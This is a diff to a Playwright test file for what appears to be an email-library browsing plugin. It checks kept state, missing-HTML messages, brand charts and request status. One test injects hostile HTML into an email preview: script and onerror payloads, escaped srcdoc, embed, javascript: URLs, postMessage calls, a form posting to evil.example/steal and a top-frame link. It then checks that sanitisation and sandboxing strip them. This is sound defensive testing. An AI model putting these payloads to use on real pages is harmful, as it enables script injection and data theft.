@@ -160,6 +160,68 @@ async function setFaultsAsync(faults: { rate: number; kinds?: string[] }): Promi
   expect(response.ok).toBe(true);
 }
 
+describe('Browse: kept while another screen shows', () => {
+  it('keeps the query, the filters, the scroll place and an open email across Settings and Sync', async () => {
+    const ui = await openBrowseAsync('light', 'key');
+    const requests: string[] = [];
+    const watch = (request: Request) => {
+      if (request.url().startsWith(`${h.emulator.libraryUrl}/v1/`)) requests.push(request.url());
+    };
+    h.page.on('request', watch);
+    try {
+      await ui.getByRole('searchbox', { name: 'Search emails' }).fill('free');
+      await ui.getByLabel('Category').selectOption({ label: 'Beauty' });
+      const found = await libraryAsync<{ data: Summary[] }>('/v1/emails?q=free&category=beauty&per_page=50');
+      expect(found.data.length, 'the emulator has free beauty emails').toBeGreaterThan(12);
+      await expect.poll(() => loadedCountAsync(ui), { timeout: 10_000 }).toBe(found.data.length);
+      expect((await cardSubjectsAsync(ui))[0]).toBe(found.data[0]!.subject_line);
+      const grid = ui.getByTestId('email-grid');
+      await grid.evaluate((element) => (element.scrollTop = 300));
+      await expect.poll(() => grid.evaluate((element) => element.scrollTop)).toBe(300);
+      // The scroll event and the grid's render come before the next frames.
+      await ui.evaluate(() => new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(done))));
+      const shownBefore = await cardSubjectsAsync(ui);
+      const sentBefore = requests.length;
+
+      await ui.getByTestId('nav-settings').click();
+      await expect.poll(() => textOf(ui.getByRole('heading', { level: 1 }))).toBe('Settings');
+      expect(await ui.getByRole('searchbox', { name: 'Search emails' }).isVisible()).toBe(false);
+      // The keys are Settings' own while Browse is away: `/` does not reach the hidden search.
+      await ui.getByRole('heading', { level: 1 }).click();
+      await h.page.keyboard.press('/');
+      expect(await ui.evaluate(() => document.activeElement?.id ?? '')).not.toBe('library-query');
+      await checkAxeAsync(ui, 'settings with Browse kept');
+
+      await ui.getByTestId('nav-browse').click();
+      expect(await ui.getByRole('searchbox', { name: 'Search emails' }).inputValue()).toBe('free');
+      expect(await ui.getByLabel('Category').inputValue()).toBe('Beauty');
+      await expect.poll(() => grid.evaluate((element) => element.scrollTop)).toBe(300);
+      expect(await cardSubjectsAsync(ui)).toEqual(shownBefore);
+      // Nothing read again: what was on screen is what comes back.
+      expect(requests.length).toBe(sentBefore);
+
+      // An open email survives a look at Sync (and Escape pressed there does not close it).
+      const card = emailList(ui).getByRole('button').first();
+      const index = (await card.getAttribute('data-index'))!;
+      const subject = (await card.locator('.email-card-subject').textContent()) ?? '';
+      await card.click();
+      await expect.poll(() => textOf(ui.getByRole('heading', { level: 2 })), { timeout: 10_000 }).toBe(subject);
+      await ui.getByTestId('nav-sync').click();
+      await expect.poll(() => textOf(ui.getByRole('heading', { level: 1 }))).toBe('Sync');
+      await ui.getByRole('heading', { level: 1 }).click();
+      await h.page.keyboard.press('Escape');
+      await ui.getByTestId('nav-browse').click();
+      await expect.poll(() => textOf(ui.getByRole('heading', { level: 2 }))).toBe(subject);
+      await checkAxeAsync(ui, 'an email, back from Sync');
+      await h.page.keyboard.press('Escape');
+      await expect.poll(() => ui.evaluate(() => (document.activeElement as HTMLElement | null)?.dataset['index'])).toBe(index);
+      expect(await ui.getByRole('searchbox', { name: 'Search emails' }).inputValue()).toBe('free');
+    } finally {
+      h.page.off('request', watch);
+    }
+  });
+});
+
 describe('Browse: when the library says no', () => {
   it('waits out a 429 calmly with the seconds left, then tries again by itself; a 503 says so and offers to try again', async () => {
     const ui = await openBrowseAsync('light', 'key');
@@ -304,11 +366,19 @@ describe('Browse: an email', () => {
       '<form action="https://evil.example/steal"><input name="q"><button>Send</button></form>',
       '<iframe srcdoc="<script>parent.parent.postMessage({pluginMessage:{type:\'hostile/nested\'}},\'*\')</script>"></iframe>',
       '<object data="javascript:parent.postMessage(1,\'*\')"></object><svg><script>parent.postMessage({pluginMessage:{type:"hostile/svg"}},"*")</script></svg>',
+      // Marks that only a script could leave, and more ways out: an escaped srcdoc, embed, a top-level link.
+      '<script>document.documentElement.setAttribute("data-ran","script")</script>',
+      '<img src="x" onerror="document.documentElement.setAttribute(\'data-ran\',\'onerror\')">',
+      '<iframe srcdoc="&lt;script&gt;parent.parent.postMessage({pluginMessage:{type:&quot;hostile/escaped-srcdoc&quot;}},&quot;*&quot;)&lt;/script&gt;"></iframe>',
+      '<embed src="data:text/html,<script>parent.postMessage(1,\'*\')</script>">',
+      '<a href="https://evil.example/" target="_top" id="away">Leave the plugin</a>',
+      '<p>The rest of the email.</p>',
       '</body></html>',
     ].join('');
     const stored = await fetch(`${h.emulator.libraryUrl}/_emulator/library/emails/${target.id}/html`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ html: hostile }) });
     expect(stored.ok).toBe(true);
     const titleBefore = await h.page.title();
+    const pageUrl = h.page.url();
 
     await cards(ui).first().click();
     await expect.poll(() => textOf(ui.getByRole('heading', { level: 2 })), { timeout: 10_000 }).toBe(target.subject_line);
@@ -318,11 +388,18 @@ describe('Browse: an email', () => {
     expect(await frameElement.getAttribute('sandbox')).toBe('');
     const srcdoc = (await frameElement.getAttribute('srcdoc')) ?? '';
     expect(srcdoc).toMatch(/^<!doctype html><html><head><meta http-equiv="Content-Security-Policy" content="default-src 'none'; img-src http:\/\/127\.0\.0\.1:\d+;/);
-    for (const gone of ['<script', 'onload=', 'onerror=', 'javascript:', '<form', '<iframe', '<object', '<base', 'refresh']) expect(srcdoc).not.toContain(gone);
+    for (const gone of ['<script', 'onload=', 'onerror=', 'javascript:', '<form', '<iframe', '<object', '<embed', '<base', 'refresh', 'srcdoc', 'target=']) expect(srcdoc).not.toContain(gone);
     const preview = (await frameElement.elementHandle())!;
     const frame = (await preview.contentFrame())!;
     await expect.poll(() => frame.locator('h1').textContent({ timeout: 1_000 }).catch(() => null)).toBe('Still a harmless email');
+    expect(await frame.getByText('The rest of the email.').count()).toBe(1);
     await frame.getByText('Open the offer').click({ force: true });
+    await frame.getByText('Leave the plugin').click({ force: true });
+    // The overlay stays inside the preview: the plugin's own controls are still what is under the pointer.
+    expect(await ui.getByTestId('nav-settings').evaluate((element) => {
+      const box = element.getBoundingClientRect();
+      return document.elementFromPoint(box.x + box.width / 2, box.y + box.height / 2)?.closest('[data-testid="nav-settings"]') === element;
+    })).toBe(true);
     await ui.getByRole('button', { name: 'Mobile' }).click();
     expect(await frameElement.evaluate((element) => element.getBoundingClientRect().width)).toBe(375);
     await new Promise((resolve) => setTimeout(resolve, 500));
@@ -330,6 +407,9 @@ describe('Browse: an email', () => {
     const messages = await evaluateHooks(h.page, (hooks) => hooks.messages());
     expect(JSON.stringify(messages)).not.toContain('hostile/');
     expect(await h.page.title()).toBe(titleBefore);
+    expect(h.page.url()).toBe(pageUrl);
+    expect(await frame.locator('html').getAttribute('data-ran')).toBeNull();
+    expect(frame.url()).toBe('about:srcdoc');
     // The plugin's own UI is untouched and still answers.
     expect(await textOf(ui.getByRole('heading', { level: 1 }))).toBe('Browse');
     await ui.getByRole('button', { name: 'Screenshot' }).click();
@@ -341,6 +421,34 @@ describe('Browse: an email', () => {
     await cards(ui).first().click();
     await expect.poll(() => textOf(ui.getByTestId('html-status')), { timeout: 10_000 }).toContain('shown with a library key');
     expect(await ui.getByRole('button', { name: 'HTML' }).isDisabled()).toBe(true);
+  });
+
+  it('says why there is no HTML for an old email, even with a key', async () => {
+    const key = state.library.keys.demo;
+    // The oldest email of a brand with one page of them; the library kept no HTML that far back.
+    const brands = await libraryAsync<{ data: BrandRecord[] }>('/v1/brands?per_page=50');
+    let old: { id: number; subject: string; captured: string; brand: string } | undefined;
+    for (const brand of brands.data.filter((entry) => entry.email_count > 5 && entry.email_count <= 50)) {
+      const page = await libraryAsync<{ data: { emails: Array<{ id: number; title: string; subject_line?: string; captured_date: string }> } }>(`/v1/brands/${brand.slug}?per_page=50`);
+      const oldest = page.data.emails.at(-1)!;
+      const detail = await libraryAsync<{ data: { html_status: string } }>(`/v1/emails/${oldest.id}`, key);
+      if (detail.data.html_status === 'not_available') {
+        old = { id: oldest.id, subject: oldest.subject_line ?? oldest.title, captured: oldest.captured_date, brand: brand.name };
+        break;
+      }
+    }
+    expect(old, 'the emulator has an email without stored HTML').toBeDefined();
+    const ui = await openBrowseAsync('light', 'key');
+    await ui.getByRole('searchbox', { name: 'Search emails' }).fill(old!.subject);
+    await ui.getByLabel('Brand').fill(old!.brand);
+    const [year, month, day] = old!.captured.split('-').map(Number) as [number, number, number];
+    const captured = `Captured ${day} ${new Date(Date.UTC(year, month - 1, day)).toLocaleString('en-GB', { month: 'short', timeZone: 'UTC' })} ${year}`;
+    const card = emailList(ui).getByRole('button').filter({ hasText: captured }).filter({ hasText: old!.subject });
+    await card.first().waitFor({ timeout: 10_000 });
+    await card.first().click();
+    await expect.poll(() => textOf(ui.getByTestId('html-status')), { timeout: 10_000 }).toBe('The library has no HTML for this email, only its screenshot.');
+    expect(await ui.getByRole('button', { name: 'HTML' }).isDisabled()).toBe(true);
+    expect(await ui.getByRole('img', { name: `Screenshot of the email “${old!.subject}”` }).count()).toBe(1);
   });
 });
 
@@ -366,6 +474,16 @@ describe('Browse: brands', () => {
     await expect.poll(() => textOf(page), { timeout: 10_000 }).toContain(`${insights.data.frequency.total_sent} emails, about`);
     expect(await ui.getByRole('img', { name: /^Sends by day of the week\. Most sends at (Mon|Tue|Wed|Thu|Fri|Sat|Sun): \d+ of \d+\.$/ }).count()).toBe(1);
     expect(await ui.getByRole('img', { name: /^Sends by hour of the day/ }).count()).toBe(1);
+    // Sends per week (or month, over a long span): drawn from the emails the page lists (the insights hold no series), growing with them.
+    const weekly = (count: number) => ui.getByRole('img', { name: new RegExp(`^Sends per (week|month), from the ${count} emails listed below\\. Most sends at [^:]+: \\d+ of \\d+\\.$`) });
+    await expect.poll(() => weekly(20).count(), { timeout: 10_000 }).toBe(1);
+    expect(await ui.getByRole('figure', { name: /^Subject lines: \d+ characters on average$/ }).count()).toBe(1);
+    expect(await textOf(ui.getByRole('figure', { name: 'Senders' }))).toContain('@');
+    expect(await ui.getByRole('figure', { name: 'Deliverability' }).getByRole('listitem').count()).toBe(3);
+    if (brand.email_count > 20) {
+      await ui.getByRole('button', { name: 'More emails' }).click();
+      await expect.poll(() => weekly(Math.min(40, brand.email_count)).count(), { timeout: 10_000 }).toBe(1);
+    }
     expect(await textOf(ui.getByRole('figure', { name: 'Email service providers' }))).toContain(insights.data.technology.esp_breakdown[0]!.name);
     const brandPage = await libraryAsync<{ data: { emails: Array<{ subject_line?: string; title: string }> } }>(`/v1/brands/${brand.slug}?per_page=20`);
     const firstEmail = brandPage.data.emails[0]!;
@@ -393,15 +511,29 @@ describe('Browse: brands', () => {
     expect(await ui.getByRole('alert').count()).toBe(0);
   });
 
-  it('opens the brand’s page from an email', async () => {
+  it('opens the brand’s page from an email, without fetching the list of brands until asked', async () => {
     const ui = await openBrowseAsync('dark', 'key');
-    const brandName = (await cards(ui).first().locator('.email-card-brand').textContent()) ?? '';
-    await cards(ui).first().click();
-    await ui.getByRole('button', { name: `${brandName}: the brand’s page` }).click();
-    await expect.poll(() => textOf(ui.getByRole('heading', { level: 2 })), { timeout: 10_000 }).toBe(brandName);
-    await ui.getByRole('heading', { name: 'Insights' }).waitFor({ timeout: 10_000 });
-    await checkAxeAsync(ui, 'brand page, dark');
-    await h.page.screenshot({ path: `${SHOTS}/library-brand-dark.png` });
+    const brandLists: string[] = [];
+    const watch = (request: Request) => {
+      if (request.url().startsWith(`${h.emulator.libraryUrl}/v1/brands?`)) brandLists.push(request.url());
+    };
+    h.page.on('request', watch);
+    try {
+      const brandName = (await cards(ui).first().locator('.email-card-brand').textContent()) ?? '';
+      await cards(ui).first().click();
+      await ui.getByRole('button', { name: `${brandName}: the brand’s page` }).click();
+      await expect.poll(() => textOf(ui.getByRole('heading', { level: 2 })), { timeout: 10_000 }).toBe(brandName);
+      await ui.getByRole('heading', { name: 'Insights' }).waitFor({ timeout: 10_000 });
+      await checkAxeAsync(ui, 'brand page, dark');
+      await h.page.screenshot({ path: `${SHOTS}/library-brand-dark.png` });
+      expect(brandLists).toEqual([]);
+      await ui.getByRole('button', { name: '← All brands' }).click();
+      const top = await libraryAsync<{ data: BrandRecord[] }>('/v1/brands?per_page=50');
+      await expect.poll(() => textOf(ui.getByRole('list', { name: 'Top brands' }).getByRole('listitem').first()), { timeout: 10_000 }).toContain(top.data[0]!.name);
+      expect(brandLists).toHaveLength(1);
+    } finally {
+      h.page.off('request', watch);
+    }
   });
 });
 
@@ -585,4 +717,33 @@ describe('Browse in both themes', () => {
       await h.page.screenshot({ path: `${SHOTS}/library-detail-html-${theme}.png` });
     });
   }
+});
+
+describe('Browse: a request the library has processed', () => {
+  it('shows a captured brand’s new status with the link to its page', async () => {
+    const advanceAsync = async (seconds: number) => {
+      const response = await fetch(`${h.emulator.libraryUrl}/_emulator/clock`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ advance_seconds: seconds }) });
+      expect(response.ok).toBe(true);
+    };
+    let ui = await openBrowseAsync('light', 'key');
+    await ui.getByRole('button', { name: 'Requests', exact: true }).click();
+    const form = ui.getByRole('form', { name: 'Ask for a brand' });
+    await form.getByLabel('Brand', { exact: true }).fill('Northwind Paper Studio');
+    await form.getByLabel('Website').fill('northwindpaperstudio.com');
+    await form.getByRole('button', { name: 'Send request' }).click();
+    await expect.poll(() => textOf(ui.getByTestId('request-outcome')), { timeout: 10_000 }).toMatch(/^Requested Northwind Paper Studio\. Queued\./);
+
+    // Two processing runs later the first email is in. The plugin opened again, as a person coming
+    // back would (its one-minute response cache would otherwise answer the list); the emulator kept.
+    await advanceAsync(2 * 86_400);
+    const listed = await libraryAsync<{ data: Array<{ brand: string; status: string; library_url: string | null }> }>('/v1/brand-requests', state.library.keys.demo);
+    const mine = listed.data.find((request) => request.brand === 'Northwind Paper Studio');
+    expect(mine?.status).toBe('first_email_captured');
+    await h.openAsync('?command=browse&theme=light&demo-keys=1');
+    ui = await h.uiFrameAsync();
+    await ui.getByRole('button', { name: 'Requests', exact: true }).click();
+    const row = ui.getByRole('list', { name: 'My requests' }).getByRole('listitem').filter({ hasText: 'Northwind Paper Studio' });
+    await expect.poll(() => textOf(row), { timeout: 10_000 }).toContain('The first email has arrived: the brand is now in the library.');
+    expect(await row.getByRole('link', { name: 'Its page in the library' }).getAttribute('href')).toBe(mine!.library_url);
+  });
 });
